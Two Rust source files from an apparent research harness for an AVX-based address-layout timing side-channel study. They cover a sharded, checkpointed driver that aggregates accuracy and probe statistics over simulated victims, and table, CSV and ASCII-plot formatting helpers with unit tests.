    /// Per-victim probe-count moments (mean/σ/min/max of what one
    /// victim costs), exact-merge via [`MomentSum`].
    pub probe_moments: MomentSum,
    /// Confidence-tag histogram of the confirmation decision layer, in
    /// [`KptiConfidence`] declaration order (no-candidate / unique /
    /// guessed-first / confirmed). All zero unless the scenario
    /// reports confidence and `--confirm` is on.
    pub confidence: [u64; 4],
}

impl FleetReducer {
    /// Empty reducer.
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// Histogram slot of a confidence tag (declaration order).
    #[must_use]
    pub fn confidence_slot(confidence: KptiConfidence) -> usize {
        match confidence {
            KptiConfidence::NoCandidate => 0,
            KptiConfidence::Unique => 1,
            KptiConfidence::GuessedFirst => 2,
            KptiConfidence::Confirmed => 3,
        }
    }

    /// Folds one victim's trial outcome in.
    pub fn push(&mut self, outcome: &TrialOutcome) {
        self.victims += 1;
        self.hits += outcome.accuracy.successes;
        self.records += outcome.accuracy.total;
        self.probes += outcome.probes;
        self.addresses += outcome.addresses;
        self.probe_moments.push(outcome.probes);
        if let Some(confidence) = outcome.confidence {
            self.confidence[Self::confidence_slot(confidence)] += 1;
        }
    }

    /// Merges another reducer in — exact, associative, commutative.
    pub fn merge(&mut self, other: &Self) {
        self.victims += other.victims;
        self.hits += other.hits;
        self.records += other.records;
        self.probes += other.probes;
        self.addresses += other.addresses;
        self.probe_moments.merge(&other.probe_moments);
        for (slot, count) in self.confidence.iter_mut().zip(other.confidence) {
            *slot += count;
        }
    }

    /// Population accuracy as a [`Trials`] tracker.
    #[must_use]
    pub fn accuracy(&self) -> Trials {
        Trials {
            successes: self.hits,
            total: self.records,
        }
    }
}

impl fmt::Display for FleetReducer {
    /// The canonical aggregate line. Deterministic formatting of
    /// deterministic state: two runs with bit-identical reducers print
    /// byte-identical lines (the CI resume smoke diffs them).
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "victims={} accuracy={} probes={} probes/victim={:.2}±{:.2} [{}..{}] confidence={:?}",
            self.victims,
            self.accuracy(),
            self.probes,
            self.probe_moments.mean(),
            self.probe_moments.stddev(),
            self.probe_moments.min().unwrap_or(0),
            self.probe_moments.max().unwrap_or(0),
            self.confidence,
        )
    }
}

// ---------------------------------------------------------------------
// Configuration.

/// Population-sweep parameters of a [`Fleet`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct FleetConfig {
    /// Victims to sweep.
    pub victims: u64,
    /// Victims per contiguous shard.
    pub shard_size: u64,
    /// Distinct victim layouts in the shared copy-on-write fixture
    /// pool. Victim `v` attacks layout `v % pool` under its own
    /// [`victim_seed`] noise stream — layouts repeat, measurement
    /// populations never do.
    pub pool: u64,
    /// Campaign seed every per-victim stream derives from.
    pub campaign_seed: u64,
    /// Checkpoint file for shard-granular resume (`None`: no
    /// checkpointing).
    pub checkpoint: Option<PathBuf>,
    /// At most this many pending shards are executed per
    /// [`Fleet::run`] call (`None`: all). The kill-and-resume lever:
    /// CI's resume smoke runs one shard, "dies", then resumes.
    pub max_shards: Option<u64>,
}

impl FleetConfig {
    /// Default victims per shard.
    pub const DEFAULT_SHARD_SIZE: u64 = 1024;
    /// Default fixture-pool size.
    pub const DEFAULT_POOL: u64 = 64;

    /// A fleet of `victims` with default sharding and pooling.
    #[must_use]
    pub fn new(victims: u64) -> Self {
        Self {
            victims,
            shard_size: Self::DEFAULT_SHARD_SIZE,
            pool: Self::DEFAULT_POOL,
            campaign_seed: 0,
            checkpoint: None,
            max_shards: None,
        }
    }

    /// Same fleet with an explicit shard size.
    #[must_use]
    pub fn with_shard_size(mut self, shard_size: u64) -> Self {
        self.shard_size = shard_size.max(1);
        self
    }

    /// Same fleet partitioned into (about) `shards` contiguous shards.
    #[must_use]
    pub fn with_shards(self, shards: u64) -> Self {
        let victims = self.victims.max(1);
        self.with_shard_size(victims.div_ceil(shards.max(1)))
    }

    /// Same fleet with an explicit fixture-pool size.
    #[must_use]
    pub fn with_pool(mut self, pool: u64) -> Self {
        self.pool = pool.max(1);
        self
    }

    /// Same fleet under a different campaign seed.
    #[must_use]
    pub fn with_seed(mut self, campaign_seed: u64) -> Self {
        self.campaign_seed = campaign_seed;
        self
    }

    /// Same fleet with shard-granular checkpointing to `path`.
    #[must_use]
    pub fn with_checkpoint(mut self, path: impl Into<PathBuf>) -> Self {
        self.checkpoint = Some(path.into());
        self
    }

    /// Same fleet executing at most `shards` pending shards per run.
    #[must_use]
    pub fn with_max_shards(mut self, shards: u64) -> Self {
        self.max_shards = Some(shards);
        self
    }

    /// Number of shards the victim population partitions into.
    #[must_use]
    pub fn shard_count(&self) -> u64 {
        self.victims.div_ceil(self.shard_size.max(1))
    }

    /// Effective fixture-pool size (never larger than the population).
    #[must_use]
    pub fn pool_size(&self) -> u64 {
        self.pool.clamp(1, self.victims.max(1))
    }
}

// ---------------------------------------------------------------------
// The fleet driver.

/// A long-running population sweep: one scenario × CPU × campaign
/// config, executed over [`FleetConfig::victims`] deterministic
/// per-victim streams.
#[derive(Clone, Debug)]
pub struct Fleet {
    /// Scenario under attack.
    pub scenario: Scenario,
    /// CPU profile the attacks probe on.
    pub profile: CpuProfile,
    /// Noise / sampling / calibrator / decision configuration.
    /// `trials` and `seed0` are ignored — the fleet's population and
    /// seeding live in [`FleetConfig`].
    pub campaign: CampaignConfig,
    /// Population-sweep parameters.
    pub config: FleetConfig,
}

/// Result of one [`Fleet::run`] invocation.
#[derive(Clone, Debug)]
pub struct FleetReport {
    /// Merged population aggregate (resumed shards included).
    pub aggregate: FleetReducer,
    /// Total shards of the population.
    pub shards: u64,
    /// Shards executed by this invocation.
    pub shards_run: u64,
    /// Shards restored from the checkpoint instead of re-run.
    pub shards_resumed: u64,
    /// Whether every shard of the population is now complete.
    pub complete: bool,
    /// Victims executed by this invocation (excludes resumed ones).
    pub victims_run: u64,
    /// Probes issued by this invocation (excludes resumed ones).
    pub probes_run: u64,
    /// Wall-clock seconds of this invocation.
    pub wall_seconds: f64,
}

impl FleetReport {
    /// Victims per wall-clock second of this invocation.
    #[must_use]
    pub fn victims_per_sec(&self) -> f64 {
        self.victims_run as f64 / self.wall_seconds.max(1e-9)
    }

    /// Probes per wall-clock second of this invocation.
    #[must_use]
    pub fn probes_per_sec(&self) -> f64 {
        self.probes_run as f64 / self.wall_seconds.max(1e-9)
    }
}

impl Fleet {
    /// Builds a fleet.
    ///
    /// # Panics
    ///
    /// Panics when the scenario's probing primitive does not work on
    /// `profile` (same contract as [`Scenario::supported_on`]).
    #[must_use]
    pub fn new(
        scenario: Scenario,
        profile: CpuProfile,
        campaign: CampaignConfig,
        config: FleetConfig,
    ) -> Self {
        assert!(
            scenario.supported_on(&profile),
            "scenario {scenario} unsupported on {}",
            profile.model
        );
        Self {
            scenario,
            profile,
            campaign,
            config,
        }
    }

    /// Configuration fingerprint a checkpoint is bound to: resuming
    /// under a different population, sharding, seed, scenario or
    /// attack configuration is refused rather than silently merging
    /// incompatible aggregates.
    #[must_use]
    pub fn fingerprint(&self) -> u64 {
        let mut h = splitmix64(0xf1ee7);
        for word in [
            self.config.victims,
            self.config.shard_size,
            self.config.pool_size(),
            self.config.campaign_seed,
            self.scenario.seed_salt(),
        ] {
            h = splitmix64(h ^ word);
        }
        let labels = format!(
            "{}|{}|{}|{}|{}|{}|{}",
            self.profile.model,
            self.campaign.noise,
            self.campaign.sampling.name(),
            self.campaign.calibrator.name(),
            self.campaign.observables.name(),
            self.campaign.confirm.is_some(),
            self.campaign.recal.is_some(),
        );
        for byte in labels.bytes() {
            h = splitmix64(h ^ u64::from(byte));
        }
        h
    }

    /// Builds the shared copy-on-write fixture pool: layout `i` comes
    /// from `victim_seed(campaign_seed, salt, i)` — identical to the
    /// layout seed of victim `i` itself, so the first `pool` victims
    /// attack "their own" fresh systems and later victims re-visit
    /// pooled layouts under fresh noise streams.
    #[must_use]
    pub fn build_pool(&self) -> Vec<TrialFixture> {
        let salt = self.scenario.seed_salt();
        let seed = self.config.campaign_seed;
        (0..self.config.pool_size())
            .into_par_iter()
            .map(|i| self.scenario.build_fixture(victim_seed(seed, salt, i)))
            .collect()
    }

    /// Runs victim `idx` against the pooled fixtures. The trial seed is
    /// the victim's own [`victim_seed`]; the layout is `pool[idx %
    /// pool.len()]`.
    #[must_use]
    pub fn run_victim_in(&self, pool: &[TrialFixture], idx: u64) -> TrialOutcome {
        let salt = self.scenario.seed_salt();
        let seed = victim_seed(self.config.campaign_seed, salt, idx);
        let fixture = &pool[(idx % pool.len() as u64) as usize];
        self.scenario
            .run_trial_with(&self.profile, fixture, seed, self.campaign)
    }

    /// Reruns victim `idx` in complete isolation — rebuilding only its
    /// pooled layout — and reproduces its in-fleet outcome exactly
    /// (the per-victim reproducibility contract).
    #[must_use]
    pub fn run_victim(&self, idx: u64) -> TrialOutcome {
        let salt = self.scenario.seed_salt();
        let layout = victim_seed(
            self.config.campaign_seed,
            salt,
            idx % self.config.pool_size(),
        );
        let fixture = self.scenario.build_fixture(layout);
        let seed = victim_seed(self.config.campaign_seed, salt, idx);
        self.scenario
            .run_trial_with(&self.profile, &fixture, seed, self.campaign)
    }

    /// Victim index range `[start, end)` of shard `shard`.
    #[must_use]
    pub fn shard_range(&self, shard: u64) -> (u64, u64) {
        let start = shard * self.config.shard_size;
        (
            start,
            (start + self.config.shard_size).min(self.config.victims),
        )
    }

    /// Streams one shard's victims into a fresh reducer.
    #[must_use]
    pub fn run_shard(&self, pool: &[TrialFixture], shard: u64) -> FleetReducer {
        let (start, end) = self.shard_range(shard);
        let mut reducer = FleetReducer::new();
        for idx in start..end {
            reducer.push(&self.run_victim_in(pool, idx));
        }
        reducer
    }

    /// Runs the fleet: resumes from the checkpoint when one exists,
    /// executes every still-pending shard (bounded by
    /// [`FleetConfig::max_shards`]) rayon-parallel, checkpoints after
    /// each shard completion, and returns the merged aggregate.
    ///
    /// # Errors
    ///
    /// Returns a message when the checkpoint file is unreadable,
    /// corrupt, or was recorded under a different fleet configuration
    /// (fingerprint mismatch), or when a checkpoint write fails.
    pub fn run(&self) -> Result<FleetReport, String> {
        let start = Instant::now();
        let shards = self.config.shard_count();
        let mut completed = vec![false; shards as usize];
        let mut restored = FleetReducer::new();
        if let Some(path) = &self.config.checkpoint {
            if path.exists() {
                let checkpoint = Checkpoint::load(path)?;
                if checkpoint.fingerprint != self.fingerprint() {
                    return Err(format!(
                        "checkpoint {} was recorded under a different fleet \
                         configuration (fingerprint {:016x}, expected {:016x})",
                        path.display(),
                        checkpoint.fingerprint,
                        self.fingerprint()
                    ));
                }
                if checkpoint.completed.len() != shards as usize {
                    return Err(format!(
                        "checkpoint {} holds {} shards, fleet has {shards}",
                        path.display(),
                        checkpoint.completed.len()
                    ));
                }
                completed = checkpoint.completed;
                restored = checkpoint.reducer;
            }
        }
        let shards_resumed = completed.iter().filter(|&&done| done).count() as u64;

        let mut pending: Vec<u64> = (0..shards).filter(|&s| !completed[s as usize]).collect();
        if let Some(max) = self.config.max_shards {
            pending.truncate(max as usize);
        }
        let shards_run = pending.len() as u64;
        let victims_run: u64 = pending
            .iter()
            .map(|&s| {
                let (lo, hi) = self.shard_range(s);
                hi - lo
            })
            .sum();

        let pool = self.build_pool();
        let fingerprint = self.fingerprint();
        let state = Mutex::new((completed, restored, Ok::<(), String>(())));
        pending.into_par_iter().for_each(|shard| {
            let local = self.run_shard(&pool, shard);
            let mut guard = state.lock().expect("fleet state lock");
            let (completed, aggregate, io_status) = &mut *guard;
            completed[shard as usize] = true;
            aggregate.merge(&local);
            if let Some(path) = &self.config.checkpoint {
                let checkpoint = Checkpoint {
                    fingerprint,
                    completed: completed.clone(),
                    reducer: *aggregate,
                };
                if let Err(err) = checkpoint.store(path) {
                    *io_status = Err(err);
                }
            }
        });

        let (completed, aggregate, io_status) = state.into_inner().expect("fleet state lock");
        io_status?;
        let complete = completed.iter().all(|&done| done);
        Ok(FleetReport {
            probes_run: aggregate.probes - restored.probes,
            aggregate,
            shards,
            shards_run,
            shards_resumed,
            complete,
            victims_run,
            wall_seconds: start.elapsed().as_secs_f64(),
        })
    }
}

// ---------------------------------------------------------------------
// Checkpoint serialization (hand-rolled JSON; the build is air-gapped,
// so no serde).

/// Checkpoint schema identifier; bump on incompatible format changes.
pub const FLEET_CHECKPOINT_SCHEMA: &str = "avx-aslr/fleet-checkpoint/v1";

/// Shard-granular resume state of a fleet run.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Checkpoint {
    /// [`Fleet::fingerprint`] of the configuration that recorded it.
    pub fingerprint: u64,
    /// Completed-shard bitmap (index = shard number).
    pub completed: Vec<bool>,
    /// Merged reducer state over every completed shard.
    pub reducer: FleetReducer,
}

impl Checkpoint {
    /// Serializes to the versioned JSON checkpoint format.
    #[must_use]
    pub fn to_json(&self) -> String {
        let bits: String = self
            .completed
            .iter()
            .map(|&done| if done { '1' } else { '0' })
            .collect();
        let r = &self.reducer;
        format!(
            "{{\n  \"schema\": \"{FLEET_CHECKPOINT_SCHEMA}\",\n  \
             \"fingerprint\": \"{:016x}\",\n  \"shards\": {},\n  \
             \"completed\": \"{bits}\",\n  \"reducer\": {{\n    \
             \"victims\": {},\n    \"hits\": {},\n    \"records\": {},\n    \
             \"probes\": {},\n    \"addresses\": {},\n    \
             \"probe_n\": {},\n    \"probe_sum\": \"{}\",\n    \
             \"probe_sumsq\": \"{}\",\n    \"probe_min\": {},\n    \
             \"probe_max\": {},\n    \"confidence\": [{}, {}, {}, {}]\n  }}\n}}\n",
            self.fingerprint,
            self.completed.len(),
            r.victims,
            r.hits,
            r.records,
            r.probes,
            r.addresses,
            r.probe_moments.n,
            r.probe_moments.sum,
            r.probe_moments.sumsq,
            r.probe_moments.min,
            r.probe_moments.max,
            r.confidence[0],
            r.confidence[1],
            r.confidence[2],
            r.confidence[3],
        )
    }

    /// Parses the versioned JSON checkpoint format.
    ///
    /// # Errors
    ///
    /// Returns a message on schema mismatch or any missing/malformed
    /// field.
    pub fn from_json(src: &str) -> Result<Self, String> {
        let schema = json_str(src, "schema").ok_or("checkpoint: missing schema")?;
        if schema != FLEET_CHECKPOINT_SCHEMA {
            return Err(format!(
                "checkpoint: schema {schema:?}, expected {FLEET_CHECKPOINT_SCHEMA:?}"
            ));
        }
        let fingerprint = json_str(src, "fingerprint")
            .and_then(|hex| u64::from_str_radix(&hex, 16).ok())
            .ok_or("checkpoint: bad fingerprint")?;
        let shards = json_u64(src, "shards").ok_or("checkpoint: missing shards")? as usize;
        let bits = json_str(src, "completed").ok_or("checkpoint: missing completed bitmap")?;
        if bits.len() != shards || bits.bytes().any(|b| b != b'0' && b != b'1') {
            return Err("checkpoint: completed bitmap does not match shard count".into());
        }
        let completed: Vec<bool> = bits.bytes().map(|b| b == b'1').collect();
        let confidence =
            json_u64_array::<4>(src, "confidence").ok_or("checkpoint: bad confidence histogram")?;
        let reducer = FleetReducer {
            victims: json_u64(src, "victims").ok_or("checkpoint: missing victims")?,
            hits: json_u64(src, "hits").ok_or("checkpoint: missing hits")?,
            records: json_u64(src, "records").ok_or("checkpoint: missing records")?,
            probes: json_u64(src, "probes").ok_or("checkpoint: missing probes")?,
            addresses: json_u64(src, "addresses").ok_or("checkpoint: missing addresses")?,
            probe_moments: MomentSum {
                n: json_u64(src, "probe_n").ok_or("checkpoint: missing probe_n")?,
                sum: json_u128_str(src, "probe_sum").ok_or("checkpoint: bad probe_sum")?,
                sumsq: json_u128_str(src, "probe_sumsq").ok_or("checkpoint: bad probe_sumsq")?,
                min: json_u64(src, "probe_min").ok_or("checkpoint: missing probe_min")?,
                max: json_u64(src, "probe_max").ok_or("checkpoint: missing probe_max")?,
            },
            confidence,
        };
        Ok(Self {
            fingerprint,
            completed,
            reducer,
        })
    }

    /// Writes the checkpoint atomically: serialize to `<path>.tmp`,
    /// then rename over `path`, so a kill mid-write never leaves a
    /// truncated checkpoint behind.
    ///
    /// # Errors
    ///
    /// Returns a message when the temporary write or the rename fails.
    pub fn store(&self, path: &Path) -> Result<(), String> {
        let tmp = path.with_extension("tmp");
        std::fs::write(&tmp, self.to_json())
            .map_err(|e| format!("checkpoint write {}: {e}", tmp.display()))?;
        std::fs::rename(&tmp, path)
            .map_err(|e| format!("checkpoint rename {}: {e}", path.display()))
    }

    /// Reads and parses a checkpoint file.
    ///
    /// # Errors
    ///
    /// Returns a message when the file is unreadable or malformed.
    pub fn load(path: &Path) -> Result<Self, String> {
        let src = std::fs::read_to_string(path)
            .map_err(|e| format!("checkpoint read {}: {e}", path.display()))?;
        Self::from_json(&src).map_err(|e| format!("checkpoint {}: {e}", path.display()))
    }
}

/// Raw token after `"key":` — the digits of a number, or the contents
/// of a quoted string, or the bracketed body of an array.
fn json_token<'a>(src: &'a str, key: &str) -> Option<&'a str> {
    let quoted = format!("\"{key}\"");
    let at = src.find(&quoted)? + quoted.len();
    let rest = src[at..].trim_start();
    let rest = rest.strip_prefix(':')?.trim_start();
    if let Some(body) = rest.strip_prefix('"') {
        return body.split('"').next();
    }
    if let Some(body) = rest.strip_prefix('[') {
        return body.split(']').next();
    }
    let end = rest
        .find(|c: char| !c.is_ascii_digit())
        .unwrap_or(rest.len());
    (end > 0).then(|| &rest[..end])
}

fn json_str(src: &str, key: &str) -> Option<String> {
    json_token(src, key).map(str::to_string)
}

fn json_u64(src: &str, key: &str) -> Option<u64> {
    json_token(src, key)?.parse().ok()
}

fn json_u128_str(src: &str, key: &str) -> Option<u128> {
    json_token(src, key)?.parse().ok()
}

fn json_u64_array<const N: usize>(src: &str, key: &str) -> Option<[u64; N]> {
    let body = json_token(src, key)?;
    let mut out = [0u64; N];
    let mut parts = body.split(',');
    for slot in &mut out {
        *slot = parts.next()?.trim().parse().ok()?;
    }
    parts.next().is_none().then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn splitmix_is_stable_and_mixes() {
        // Pin the derivation: golden fleets depend on these streams.
        assert_eq!(splitmix64(0), 0xE220_A839_7B1D_CDAF);
        assert_ne!(victim_seed(0, 0, 0), victim_seed(0, 0, 1));
        assert_ne!(victim_seed(0, 0, 0), victim_seed(0, 1000, 0));
        assert_ne!(victim_seed(0, 0, 0), victim_seed(1, 0, 0));
    }

    #[test]
    fn victim_seed_has_no_collisions_over_a_large_window() {
        let mut seen: Vec<u64> = (0..100_000u64).map(|i| victim_seed(7, 3000, i)).collect();
        seen.sort_unstable();
        seen.dedup();
        assert_eq!(seen.len(), 100_000, "seed stream collided");
    }

    #[test]
    fn legacy_shims_reproduce_the_historical_arithmetic() {
        assert_eq!(legacy_trial_seed(5, 3000, 7), 5 + 3000 + 7);
        assert_eq!(machine_seed(0x1234), 0x1234 ^ 0xabcd);
        // Wrapping, like release-mode `+` did.
        assert_eq!(legacy_trial_seed(u64::MAX, 0, 1), 0);
    }

    #[test]
    fn moment_sum_matches_naive_and_merge_is_exact() {
        let xs = [2u64, 4, 4, 4, 5, 5, 7, 9];
        let mut m = MomentSum::new();
        for &x in &xs {
            m.push(x);
        }
        assert_eq!(m.count(), 8);
        assert!((m.mean() - 5.0).abs() < 1e-12);
        assert!((m.stddev() - 2.0).abs() < 1e-12);
        assert_eq!(m.min(), Some(2));
        assert_eq!(m.max(), Some(9));
        // Split anywhere, merge: bit-identical.
        for split in 0..=xs.len() {
            let (a, b) = xs.split_at(split);
            let mut ma = MomentSum::new();
            let mut mb = MomentSum::new();
            a.iter().for_each(|&x| ma.push(x));
            b.iter().for_each(|&x| mb.push(x));
            ma.merge(&mb);
            assert_eq!(ma, m, "split at {split}");
        }
        // Empty edge cases.
        let empty = MomentSum::new();
        assert_eq!(empty.mean(), 0.0);
        assert_eq!(empty.stddev(), 0.0);
        assert_eq!(empty.min(), None);
        assert_eq!(empty.max(), None);
    }

    #[test]
    fn reducer_display_is_deterministic() {
        let mut r = FleetReducer::new();
        r.push(&TrialOutcome {
            probes: 1100,
            addresses: 512,
            accuracy: Trials {
                successes: 1,
                total: 1,
            },
            ..TrialOutcome::default()
        });
        let line = r.to_string();
        assert!(line.contains("victims=1"), "{line}");
        assert!(line.contains("probes=1100"), "{line}");
        assert_eq!(line, r.to_string());
    }

    #[test]
    fn checkpoint_json_roundtrips() {
        let mut reducer = FleetReducer::new();
        for i in 0..5u64 {
            reducer.push(&TrialOutcome {
                probes: 1000 + i * 37,
                addresses: 512,
                accuracy: Trials {
                    successes: u64::from(i != 3),
                    total: 1,
                },
                confidence: Some(KptiConfidence::Confirmed),
                ..TrialOutcome::default()
            });
        }
        let checkpoint = Checkpoint {
            fingerprint: 0xdead_beef_0bad_f00d,
            completed: vec![true, false, true],
            reducer,
        };
        let json = checkpoint.to_json();
        assert!(json.contains(FLEET_CHECKPOINT_SCHEMA));
        let back = Checkpoint::from_json(&json).expect("roundtrip");
        assert_eq!(back, checkpoint);
    }

    #[test]
    fn checkpoint_rejects_corrupt_input() {
        assert!(Checkpoint::from_json("{}").is_err());
        assert!(Checkpoint::from_json("not json at all").is_err());
        let mut reducer = FleetReducer::new();
        reducer.push(&TrialOutcome::default());
        let good = Checkpoint {
            fingerprint: 1,
            completed: vec![true],
            reducer,
        }
        .to_json();
        // Wrong schema is refused.
        let wrong = good.replace("fleet-checkpoint/v1", "fleet-checkpoint/v9");
        assert!(Checkpoint::from_json(&wrong).is_err());
        // Bitmap length disagreeing with the shard count is refused.
        let wrong = good.replace("\"shards\": 1", "\"shards\": 2");
        assert!(Checkpoint::from_json(&wrong).is_err());
    }

    #[test]
    fn json_token_scanner_handles_the_format() {
        let src = "{\"a\": 12, \"b\": \"xyz\", \"c\": [1, 2], \"ab\": 9}";
        assert_eq!(json_u64(src, "a"), Some(12));
        assert_eq!(json_str(src, "b").as_deref(), Some("xyz"));
        assert_eq!(json_u64_array::<2>(src, "c"), Some([1, 2]));
        assert_eq!(json_u64(src, "ab"), Some(9));
        assert_eq!(json_u64(src, "missing"), None);
        assert_eq!(json_u64_array::<3>(src, "c"), None, "arity is checked");
    }
}
