//! Result formatting: tables, time units, CSV series and ASCII plots.
//!
//! The bench harness uses these helpers to print the same rows and
//! series the paper's tables and figures report.

use core::fmt;

/// Formats a duration given in seconds with an auto-selected unit.
#[must_use]
pub fn fmt_seconds(seconds: f64) -> String {
    let abs = seconds.abs();
    if abs < 1e-6 {
        format!("{:.2} ns", seconds * 1e9)
    } else if abs < 1e-4 {
        format!("{:.2} µs", seconds * 1e6)
    } else if abs < 1.0 {
        format!("{:.2} ms", seconds * 1e3)
    } else {
        format!("{seconds:.2} s")
    }
}

/// A fixed-width text table.
#[derive(Clone, Debug, Default)]
pub struct Table {
    headers: Vec<String>,
    rows: Vec<Vec<String>>,
}

impl Table {
    /// Creates a table with the given column headers.
    #[must_use]
    pub fn new<S: Into<String>, I: IntoIterator<Item = S>>(headers: I) -> Self {
        Self {
            headers: headers.into_iter().map(Into::into).collect(),
            rows: Vec::new(),
        }
    }

    /// Appends one row.
    ///
    /// # Panics
    ///
    /// Panics if the cell count differs from the header count.
    pub fn row<S: Into<String>, I: IntoIterator<Item = S>>(&mut self, cells: I) -> &mut Self {
        let row: Vec<String> = cells.into_iter().map(Into::into).collect();
        assert_eq!(row.len(), self.headers.len(), "column-count mismatch");
        self.rows.push(row);
        self
    }

    /// Number of data rows.
    #[must_use]
    pub fn len(&self) -> usize {
        self.rows.len()
    }

    /// `true` when no rows were added.
    #[must_use]
    pub fn is_empty(&self) -> bool {
        self.rows.is_empty()
    }
}

impl fmt::Display for Table {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut widths: Vec<usize> = self.headers.iter().map(|h| h.chars().count()).collect();
        for row in &self.rows {
            for (w, cell) in widths.iter_mut().zip(row) {
                *w = (*w).max(cell.chars().count());
            }
        }
        let write_row = |f: &mut fmt::Formatter<'_>, cells: &[String]| -> fmt::Result {
            for (i, (cell, w)) in cells.iter().zip(&widths).enumerate() {
                if i > 0 {
                    write!(f, "  ")?;
                }
                write!(f, "{cell:<w$}")?;
            }
            writeln!(f)
        };
        write_row(f, &self.headers)?;
        let total: usize = widths.iter().sum::<usize>() + 2 * (widths.len() - 1);
        writeln!(f, "{}", "-".repeat(total))?;
        for row in &self.rows {
            write_row(f, row)?;
        }
        Ok(())
    }
}

/// A named (x, y) series, e.g. one curve of Fig. 4 or Fig. 6.
#[derive(Clone, Debug)]
pub struct Series {
    /// Series label.
    pub label: String,
    /// Points in x order.
    pub points: Vec<(f64, f64)>,
}

impl Series {
    /// Creates a series from integer samples (`index → value`).
    #[must_use]
    pub fn from_samples<S: Into<String>>(label: S, samples: &[u64]) -> Self {
        Self {
            label: label.into(),
            points: samples
                .iter()
                .enumerate()
                .map(|(i, &v)| (i as f64, v as f64))
                .collect(),
        }
    }

    /// CSV rendering (`x,y` lines with a header).
    #[must_use]
    pub fn to_csv(&self) -> String {
        let mut out = format!("x,{}\n", self.label);
        for (x, y) in &self.points {
            out.push_str(&format!("{x},{y}\n"));
        }
        out
    }
}

/// Like [`ascii_plot`] but clamps y values at `y_max` first — interrupt
/// spikes otherwise compress the interesting bands into one row.
#[must_use]
pub fn ascii_plot_clamped(series: &Series, width: usize, height: usize, y_max: f64) -> String {
    let clamped = Series {
        label: series.label.clone(),
        points: series
            .points
            .iter()
            .map(|&(x, y)| (x, y.min(y_max)))
            .collect(),
    };
    ascii_plot(&clamped, width, height)
}

/// Renders an ASCII scatter of a series: `width × height` characters,
/// `*` marks samples. Good enough to eyeball the Fig. 4 / Fig. 6 bands
/// in a terminal.
#[must_use]
pub fn ascii_plot(series: &Series, width: usize, height: usize) -> String {
    assert!(width >= 8 && height >= 2, "plot too small");
    if series.points.is_empty() {
        return String::from("(empty series)\n");
    }
    let (mut min_x, mut max_x) = (f64::INFINITY, f64::NEG_INFINITY);
    let (mut min_y, mut max_y) = (f64::INFINITY, f64::NEG_INFINITY);
    for &(x, y) in &series.points {
        min_x = min_x.min(x);
        max_x = max_x.max(x);
        min_y = min_y.min(y);
        max_y = max_y.max(y);
    }
    if (max_x - min_x).abs() < f64::EPSILON {
        max_x = min_x + 1.0;
    }
    if (max_y - min_y).abs() < f64::EPSILON {
        max_y = min_y + 1.0;
    }
    let mut grid = vec![vec![b' '; width]; height];
    for &(x, y) in &series.points {
        let cx = (((x - min_x) / (max_x - min_x)) * (width - 1) as f64).round() as usize;
        let cy = (((y - min_y) / (max_y - min_y)) * (height - 1) as f64).round() as usize;
        grid[height - 1 - cy][cx] = b'*';
    }
    let mut out = format!(
        "{} (y: {:.0}..{:.0}, x: {:.0}..{:.0})\n",
        series.label, min_y, max_y, min_x, max_x
    );
    for row in grid {
        out.push_str(core::str::from_utf8(&row).expect("ascii"));
        out.push('\n');
    }
    out
}

/// Renders a latency histogram: one row per bin, bar length
/// proportional to the count — the terminal version of the Fig. 2
/// distribution plots.
#[must_use]
pub fn ascii_histogram(samples: &[u64], bins: usize, width: usize) -> String {
    assert!(bins >= 2 && width >= 8, "histogram too small");
    if samples.is_empty() {
        return String::from("(no samples)\n");
    }
    let min = *samples.iter().min().expect("non-empty");
    let max = *samples.iter().max().expect("non-empty");
    let span = (max - min).max(1);
    let mut counts = vec![0usize; bins];
    for &s in samples {
        let idx = ((s - min) as usize * (bins - 1)) / span as usize;
        counts[idx] += 1;
    }
    let peak = counts.iter().copied().max().unwrap_or(1).max(1);
    let mut out = String::new();
    for (i, &c) in counts.iter().enumerate() {
        let lo = min + span * i as u64 / bins as u64;
        let hi = min + span * (i as u64 + 1) / bins as u64;
        let bar = (c * width).div_ceil(peak).min(width);
        out.push_str(&format!(
            "{lo:>6}-{hi:<6} |{}{} {c}\n",
            "#".repeat(bar),
            " ".repeat(width - bar)
        ));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn histogram_shows_bimodal_bands() {
        let mut samples = Vec::new();
        for _ in 0..100 {
            samples.push(93);
            samples.push(107);
        }
        let h = ascii_histogram(&samples, 7, 30);
        let full_rows = h.lines().filter(|l| l.contains("##")).count();
        assert_eq!(full_rows, 2, "two occupied bins:\n{h}");
        assert!(h.contains("100"), "counts rendered:\n{h}");
    }

    #[test]
    fn histogram_degenerate_inputs() {
        assert_eq!(ascii_histogram(&[], 4, 10), "(no samples)\n");
        let h = ascii_histogram(&[50, 50, 50], 4, 10);
        assert!(h.contains('3'), "all mass in one bin:\n{h}");
    }

    #[test]
    #[should_panic(expected = "histogram too small")]
    fn histogram_rejects_tiny_geometry() {
        let _ = ascii_histogram(&[1, 2], 1, 4);
    }

    #[test]
    fn seconds_units() {
        assert_eq!(fmt_seconds(0.28e-3), "0.28 ms");
        assert_eq!(fmt_seconds(67e-6), "67.00 µs");
        assert_eq!(fmt_seconds(2.06), "2.06 s");
        assert_eq!(fmt_seconds(5e-9), "5.00 ns");
    }

    #[test]
    fn table_renders_aligned() {
        let mut t = Table::new(["CPU", "Runtime", "Accuracy"]);
        t.row(["i5-12400F", "0.28 ms", "99.60 %"]);
        t.row(["i7-1065G7", "0.57 ms", "99.29 %"]);
        let text = t.to_string();
        let lines: Vec<&str> = text.lines().collect();
        assert_eq!(lines.len(), 4, "header + rule + 2 rows");
        assert!(lines[0].starts_with("CPU"));
        assert!(lines[2].contains("12400F"));
        assert!(!t.is_empty());
        assert_eq!(t.len(), 2);
    }

    #[test]
    #[should_panic(expected = "column-count mismatch")]
    fn table_rejects_ragged_rows() {
        let mut t = Table::new(["a", "b"]);
        t.row(["only-one"]);
    }

    #[test]
    fn series_csv() {
        let s = Series::from_samples("cycles", &[93, 107]);
        let csv = s.to_csv();
        assert!(csv.starts_with("x,cycles\n"));
        assert!(csv.contains("0,93"));
        assert!(csv.contains("1,107"));
    }

    #[test]
    fn ascii_plot_contains_extremes() {
